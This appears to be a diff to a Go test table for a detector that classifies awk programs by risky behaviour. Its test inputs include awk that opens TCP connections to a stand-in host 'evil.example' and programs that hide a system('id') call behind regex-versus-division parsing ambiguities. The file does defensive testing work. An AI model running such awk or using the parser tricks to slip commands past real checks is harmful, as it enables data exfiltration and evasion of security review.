@@ -86,6 +86,15 @@ var awkCases = []progCase{
 	{src: `BEGIN { x = 1 >> 2 }`, kind: "unknown"},
 	{src: `BEGIN { printf "a" > "/inet/tcp/0/evil.example/80" }`, hosts: []string{"evil.example"}},
 	{src: `BEGIN { getline < "/inet/tcp/0/evil.example/80" }`, hosts: []string{"evil.example"}},
+	// After the condition of if or while, gawk reads a regular
+	// expression where other awks divide.
+	{src: `BEGIN { if (1) /"/; system("id"); /"/ }`, kind: "unknown"},
+	{src: `{ while (x) /a/ }`, kind: "unknown"},
+	{src: `{ if ((a) / 2 > 1) print }`},
+	{src: `{ x = (a) / 2 }`},
+	{src: "{ print }\r\n{ print $1 }"},
+	{src: "BEGIN { x = a\r/\"/; system(\"id\"); /\"/ }", kind: "unknown"},
+	{src: `$0 ~ @/x+/ { n++ }`},
 	// A regex holding a quote, and a division that looks like one.
 	{src: `/"/ { n++ } END { print n }`},
 	{src: `{ x = a / "b"; system("id"); y = "c" / d }`, kind: "exec"},
